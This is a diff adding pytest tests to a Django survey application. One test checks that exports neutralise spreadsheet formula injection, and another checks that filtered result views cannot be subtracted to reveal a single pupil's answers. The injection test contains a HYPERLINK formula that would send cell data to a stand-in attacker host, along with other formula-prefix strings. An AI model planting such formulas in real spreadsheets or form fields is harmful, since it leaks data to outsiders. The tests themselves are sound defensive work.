@@ -3,6 +3,7 @@ under five, filters, and the exports (CSV, XLSX, SPSS with value labels)."""
 
 from __future__ import annotations
 
+import io
 import os
 import tempfile
 
@@ -109,3 +110,67 @@ def test_exports_carry_codes_and_value_labels_but_no_small_school() -> None:
     assert meta.variable_value_labels["has_child"] == {1.0: "Да", 2.0: "Нет"}
     assert list(frame["topics_maths"]) == [1.0] * 3 and list(frame["topics_reading"]) == [0.0] * 3
     assert meta.column_names_to_labels["age"] == "Возраст ребёнка"
+
+
+@pytest.mark.django_db
+def test_exports_do_not_turn_a_respondents_text_into_a_formula() -> None:
+    # A public respondent types a spreadsheet formula into an open question: the exports must
+    # carry it as text, never as a formula that runs when the officer opens the file.
+    import openpyxl
+
+    survey = public_survey()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for index, comment in enumerate([hostile, "+1+1", "-2+3", "@SUM(A1)", "fine"]):
+        response_submit_public(
+            survey=survey,
+            raw={**GOOD_ANSWERS, "comment": comment},
+            token=f"f{index}",
+            group="parent",
+            organisation_id=None,
+        )
+    text = exports.as_csv(survey, "ru").decode("utf-8-sig")
+    cells = [cell for line in text.splitlines() for cell in line.split(",")]
+    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
+    assert "'=HYPERLINK" in text
+    book = openpyxl.load_workbook(io.BytesIO(exports.as_xlsx(survey, "ru")))
+    values = [c.value for row in book.active.iter_rows() for c in row]
+    assert hostile in values
+    assert not any(c.data_type == "f" for row in book.active.iter_rows() for c in row)
+
+
+@pytest.mark.django_db
+def test_a_filtered_view_cannot_be_subtracted_from_a_wider_one() -> None:
+    # Ten parents and one pupil answered in one school. "School" (11) minus "school + parent"
+    # (10), or the whole survey minus "parent", would be the pupil's own answers: a view that
+    # differs from a wider view shown on the page by one to four responses shows nothing.
+    from kaskad.surveys.selectors import Filters as F
+
+    school = make_organisation(area=area_of("ALA"))
+    survey = public_survey()
+    survey.organisations.set([school])
+    for index in range(10):
+        response_submit_public(
+            survey=survey,
+            raw={**GOOD_ANSWERS, "safe": "4"},
+            token=f"p{index}",
+            group="parent",
+            organisation_id=school.pk,
+        )
+    response_submit_public(
+        survey=survey,
+        raw={**GOOD_ANSWERS, "safe": "1"},
+        token="pupil",
+        group="pupil",
+        organisation_id=school.pk,
+    )
+    whole = survey_results(survey=survey, filters=F(), language="kk")
+    assert whole.total == 11
+    for narrower in (
+        F(group="parent"),
+        F(organisation_id=school.pk, group="parent"),
+        F(area_id=school.area_id, group="parent"),
+    ):
+        assert survey_results(survey=survey, filters=narrower, language="kk").total is None
+    # A view equal to the wider one (every response is in this school) is no difference.
+    same = survey_results(survey=survey, filters=F(organisation_id=school.pk), language="kk")
+    assert same.total == 11
